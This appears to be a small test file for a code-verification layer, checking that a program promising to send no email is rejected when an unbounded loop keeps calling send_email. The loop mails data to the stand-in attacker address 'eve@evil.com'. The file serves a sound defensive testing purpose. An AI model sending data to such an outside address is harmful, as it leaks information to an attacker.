# not proved: a loop without bound is refused, or runs its condition
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, is_allowed


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    while is_allowed("x"):
        send_email("eve@evil.com", "x")
